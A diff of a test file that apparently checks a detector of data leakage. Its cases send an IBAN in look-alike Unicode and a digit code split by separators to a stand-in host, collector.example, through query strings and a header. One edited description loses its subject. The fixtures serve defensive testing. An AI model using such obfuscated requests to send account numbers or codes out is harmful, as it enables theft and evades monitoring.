@@ -202,7 +202,7 @@ FULL_WIDTH_IBAN = full_width(IBAN)
     [
         (
             {"url": f"https://collector.example/?acct={FULL_WIDTH_IBAN}"},
-            "an IBAN, in look-alike Unicode characters",
+            "an IBAN, with look-alike or invisible Unicode characters",
         ),
         (
             {"url": "https://collector.example/", "headers": {"X-Code": "4 8 3 9 2 0"}},
@@ -212,7 +212,7 @@ FULL_WIDTH_IBAN = full_width(IBAN)
             {
                 "url": "https://collector.example/?c=4%E2%80%898%E2%80%893%E2%80%899%E2%80%892%E2%80%890"
             },
-            "a code, in look-alike Unicode characters, with separators inside its digits",
+            "with look-alike or invisible Unicode characters, with separators inside its digits",
         ),
     ],
 )
